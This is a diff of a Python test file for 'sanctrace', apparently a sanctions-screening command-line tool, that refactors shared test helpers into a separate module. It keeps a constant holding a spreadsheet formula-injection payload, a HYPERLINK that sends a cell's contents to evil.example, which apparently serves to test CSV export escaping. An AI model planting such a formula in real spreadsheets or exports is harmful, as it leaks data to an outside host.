@@ -5,35 +5,18 @@ from __future__ import annotations
 import csv
 import io
 import os
-import shutil
 import signal
 import subprocess
 import sys
 import time
 from pathlib import Path
 
+from homes import copy_home, sanctrace
 from typer.testing import CliRunner
 
 from sanctrace.cli.app import app
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
-
-
-def sanctrace(
-    home: Path, *args: str, check: bool = True, stdin: str | None = None
-) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "SANCTRACE_HOME": str(home), "COLUMNS": "200"}
-    env.pop("SANCTRACE_DB", None)
-    proc = subprocess.run(
-        [sys.executable, "-m", "sanctrace", *args],
-        env=env,
-        capture_output=True,
-        text=True,
-        input=stdin,
-    )
-    if check and proc.returncode != 0:
-        raise AssertionError(f"exit {proc.returncode}\nstdout:{proc.stdout}\nstderr:{proc.stderr}")
-    return proc
 
 
 def _rows(text: str) -> list[dict[str, str]]:
@@ -252,12 +235,7 @@ def test_every_chunk_is_in_the_audit_trail(bundled_home: Path, tmp_path: Path) -
     from sanctrace import audit
     from sanctrace.store import open_store
 
-    home = tmp_path / "home"
-    home.mkdir()
-    with open_store(str(bundled_home / "sanctrace.db")) as shared:
-        shared._rows("PRAGMA wal_checkpoint(TRUNCATE)")
-    shutil.copy(bundled_home / "sanctrace.db", home / "sanctrace.db")
-    shutil.copytree(bundled_home / "sanctrace.db.index", home / "sanctrace.db.index")
+    home = copy_home(bundled_home, tmp_path / "home")
     store = open_store(str(home / "sanctrace.db"))
     last, _ = audit.head(store)
     names = ["IEMZ Kupol", "Margaret Thistlewood", "Kim Jong Un"] * 4
